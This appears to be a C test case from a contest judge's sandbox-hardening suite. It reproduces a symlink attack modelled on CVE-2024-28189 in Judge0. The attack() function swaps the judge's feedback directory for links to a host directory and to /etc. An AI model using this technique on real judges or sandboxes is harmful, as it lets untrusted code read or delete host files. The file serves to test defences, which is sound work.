/* ---
class = "output"
attempts = """\
put a symbolic link to a directory of the host in place of the directory that the judge reads \
and removes"""
must = "the judge reads and removes the directory that it opened before, and follows no link"
held_by = "the judge opens its descriptors before the run"
repeats = ["CVE-2024-28189 (Judge0)"]
with = ["feedback"]
--- */
#include "hostile.h"

static void attack(void)
{
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/outside", host_directory);
    if (rename("/box/feedback", "/box/moved") < 0) {
        refused("rename", -1);
        return;
    }
    must(symlink(path, "/box/feedback"));
    must(symlink("/etc", "/box/moved/judgemessage.txt"));
}
